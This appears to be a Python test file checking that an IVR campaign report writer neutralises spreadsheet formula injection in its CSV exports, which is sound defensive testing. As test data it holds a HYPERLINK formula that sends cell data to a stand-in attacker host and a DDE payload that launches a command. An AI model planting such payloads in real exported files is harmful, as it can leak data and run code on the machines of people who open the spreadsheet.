"""Campaign report CSVs never carry a live spreadsheet formula (issue 9)."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from ivr.campaigns.model import Attempt, AttemptState, Campaign, Target, TargetState
from ivr.campaigns.report import ReportData, write_report
from ivr.store.records import CallRecord

NOW = datetime(2024, 6, 10, 11, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    target = Target("c1", "c-9", "list", TargetState.COMPLETED, 1, None, NOW, NOW,
                    reason="@SUM(1+1)", last_outcome="completed")
    attempt = Attempt("a1", "c1", "c-9", 1, AttemptState.COMPLETED, NOW, call_sid="CA1")
    call = CallRecord(call_sid="CA1", escalation_reason=FORMULA,
                      details={"faq_topics": ["+cmd|' /C calc'!A0"]})
    data = ReportData(Campaign("c1", "=1+1"), [target], [attempt], {"CA1": call},
                      {"CA1": []}, 0)
    write_report(data, tmp_path)
    for name in ("targets.csv", "summary.csv"):
        with (tmp_path / name).open(encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip(
                        "+-").replace(".", "").isdigit(), (name, cell)
    with (tmp_path / "targets.csv").open(encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["escalation_reason"] == "'" + FORMULA
    assert row["reason"] == "'@SUM(1+1)"
